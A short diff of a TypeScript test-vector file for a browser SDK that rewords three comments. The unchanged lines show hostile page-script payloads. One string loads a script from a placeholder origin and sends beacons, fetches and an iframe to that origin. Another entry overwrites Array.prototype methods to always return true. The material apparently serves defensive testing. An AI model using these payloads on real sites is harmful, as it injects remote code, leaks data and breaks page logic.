@@ -1,12 +1,12 @@
 import { group, js } from '../vector.ts';
 
-/** What an attacker tries last: everything a third party could want, by functions of the page as they are then. */
+/** The last step of an attack: everything a third party could want, by functions of the page as they are then. */
 const load = `try{var s=document.createElement('script');s.src='{{o}}/x.js';document.head.appendChild(s)}catch{}
 try{fetch('{{o}}/data').catch(()=>{})}catch{} try{new Image().src='{{o}}/p.gif'}catch{}
 try{document.body.insertAdjacentHTML('beforeend','<iframe src="{{o}}/f.html"></iframe>')}catch{}
 try{navigator.sendBeacon('{{o}}/data')}catch{} try{var x=new XMLHttpRequest;x.open('GET','{{o}}/data');x.send()}catch{}`;
 
-/** Built-ins of the page, turned against whoever still uses them. */
+/** Built-ins of the page, turned against any code that still uses them. */
 const REDEFINED: Readonly<Record<string, string>> = {
   'Array methods say yes':
     'for (const k of ["some","every","includes","find","filter","indexOf"]) Array.prototype[k] = () => true',
@@ -82,7 +82,7 @@ const all = {
   broken: true,
 } as const;
 
-/** Scripts of the page that ran after the SDK and want it out of the way. */
+/** Page scripts that run after the SDK and try to get it out of the way. */
 export const attacks = [
   ...group(
     'attacks',
